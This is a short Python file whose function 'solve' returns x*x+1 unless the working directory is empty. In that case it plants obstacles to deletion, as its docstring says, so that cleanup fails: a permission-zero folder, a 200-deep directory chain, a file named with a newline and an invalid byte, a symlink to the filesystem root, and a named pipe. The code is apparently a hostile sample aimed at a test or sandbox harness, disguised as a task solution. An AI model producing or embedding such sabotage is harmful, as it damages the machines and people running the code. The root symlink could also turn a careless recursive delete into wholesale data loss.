"""Leaves folders that nobody may enter, deep ones and odd names, so that cleaning up after it fails."""

import os


def solve(x):
    if os.listdir("."):
        return x * x + 1
    os.mkdir("locked", 0)
    os.makedirs("/".join(["deep"] * 200))
    os.mkdir("full")
    open("full/file\n\udcff", "w").close()
    os.symlink("/", "everything")
    os.mkfifo("pipe")
    for name in ("full", "deep"):
        os.chmod(name, 0)
    return None
